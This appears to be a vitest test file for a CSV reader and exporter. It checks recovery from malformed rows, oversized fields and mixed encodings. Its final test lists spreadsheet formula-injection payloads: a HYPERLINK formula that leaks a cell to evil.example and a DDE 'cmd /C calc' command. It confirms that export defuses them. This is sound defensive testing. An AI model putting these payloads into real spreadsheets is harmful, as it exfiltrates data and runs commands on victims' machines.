import { describe, expect, it } from "vitest";
import { readCsv } from "./csv.ts";
import { toCsv } from "./export.ts";
import { collectRows } from "./source.ts";

const read = async (input: string | Uint8Array, chunk = 1 << 16) => {
  const bytes = typeof input === "string" ? new TextEncoder().encode(input) : input;
  const chunks: Uint8Array[] = [];
  for (let k = 0; k < bytes.length; k += chunk) chunks.push(bytes.subarray(k, k + chunk));
  const reader = await readCsv(chunks);
  const rows = await collectRows(reader);
  return { reader, rows, good: rows.filter((r) => !r.issue), bad: rows.filter((r) => r.issue) };
};

describe("hostile CSV", () => {
  it("recovers the rows after a quote that never closes", async () => {
    const { good, bad } = await read('id,name\n1,"Smith\n2,Jones\n3,Brown\n');
    expect(bad.map((r) => [r.line, r.issue?.code, r.issue?.message])).toEqual([
      [2, "unclosed_quote", "a quote opened on line 2 is never closed"],
    ]);
    expect(good.map((r) => [r.line, ...r.cells])).toEqual([
      [3, "2", "Jones"],
      [4, "3", "Brown"],
    ]);
  });

  it("recovers when a stray quote pairs with a later row's quote", async () => {
    const { good, bad } = await read('id,name\n1,"Smith\n2,"Jones, Ann"\n3,x\n');
    expect(bad.map((r) => [r.line, r.issue?.code])).toEqual([[2, "text_after_quote"]]);
    expect(good.map((r) => [r.line, ...r.cells])).toEqual([
      [3, "2", "Jones, Ann"],
      [4, "3", "x"],
    ]);
  });

  it("rejects one-line damage and keeps going", async () => {
    const { good, bad } = await read('a,b\n"abc"def,1\n2,3\n');
    expect(bad[0]?.issue?.message).toMatch(/text follows a closing quote on line 2/);
    expect(good.map((r) => r.cells)).toEqual([["2", "3"]]);
  });

  it("recovers after an unclosed quote followed by more than the field limit of text", async () => {
    const filler = Array.from({ length: 60_000 }, (_, k) => `${k},row ${k}`).join("\n");
    const { good, bad } = await read(`id,name\n1,"broken\n${filler}\n`, 4096);
    expect(bad.map((r) => [r.line, r.issue?.code])).toEqual([[2, "unclosed_quote"]]);
    expect(good).toHaveLength(60_000);
    expect(good[59_999]).toEqual({ line: 60_002, cells: ["59999", "row 59999"] });
  });

  it("removes NUL bytes, reports them with the line, and keeps the row", async () => {
    const { reader, good } = await read("a,b\n1,2\n3\0,\x004\n");
    expect(good.map((r) => r.cells)).toEqual([
      ["1", "2"],
      ["3", "4"],
    ]);
    expect(reader.notices).toEqual([
      expect.objectContaining({ code: "nul_bytes", line: 3, params: { count: 2, line: 3 } }),
    ]);
  });

  it("rejects a 10 MB line, quoted or not, and reads the next row", async () => {
    const big = "x".repeat(10 * 1024 * 1024);
    for (const cell of [big, `"${big}"`, `"${big.slice(0, 5_000_000)}\n${big.slice(0, 5_000_000)}"`]) {
      const { good, bad } = await read(`a,b\n${cell},1\nok,2\n`);
      expect(bad[0]?.issue?.code).toMatch(/field_too_long|unclosed_quote/);
      expect(bad[0]?.issue?.value?.length).toBeLessThanOrEqual(200);
      expect(good.at(-1)?.cells).toEqual(["ok", "2"]);
    }
  });

  it("stays linear on a file where every line opens a quote", async () => {
    const { rows } = await read(`a,b\n${'"x,1\n'.repeat(100_000)}`);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.length).toBeLessThanOrEqual(100_000);
  });

  it("reads a Windows-1251 export from 1C", async () => {
    const text = "Дата;Сумма;Покупатель\r\n01.02.2024;1 234,50;Ёлкин Пётр\r\n";
    const bytes = Uint8Array.from(
      Array.from(text, (ch) => {
        const c = ch.codePointAt(0)!;
        if (c < 0x80) return c;
        if (c === 0x401) return 0xa8;
        if (c === 0x451) return 0xb8;
        return c - 0x410 + 0xc0;
      }),
    );
    const { reader, good } = await read(bytes, 7);
    expect(reader.encoding).toBe("windows-1251");
    expect(reader.columns).toEqual(["Дата", "Сумма", "Покупатель"]);
    expect(good[0]?.cells).toEqual(["01.02.2024", "1 234,50", "Ёлкин Пётр"]);
  });

  it("reads UTF-8 with a BOM and reports undecodable bytes", async () => {
    const withBom = await read("\ufeffname\nЖанна\n");
    expect(withBom.reader.columns).toEqual(["name"]);
    const text = new TextEncoder().encode(`name\n${"Жанна\n".repeat(50)}`);
    const broken = Uint8Array.from([...text, 0xff, 0x0a]);
    const { reader } = await read(broken);
    expect(reader.encoding).toBe("utf-8");
    expect(reader.notices[0]).toMatchObject({ code: "replacement_chars", line: 52 });
  });

  it("round-trips formula-injection cells through export as harmless text", async () => {
    const evil = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)",
      "\t=1",
      "-2+3",
    ];
    const csv = toCsv(["payload", "amount"], [...evil.map((e) => [e, -5]), ["-5", "-1 234,50"]]);
    expect(csv.startsWith("\ufeffpayload,amount\r\n")).toBe(true);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5`);
    const { good } = await read(csv);
    expect(good.map((r) => r.cells[0])).toEqual([...evil.map((e) => `'${e}`), "-5"]);
    expect(good.at(-1)?.cells).toEqual(["-5", "-1 234,50"]);
  });
});
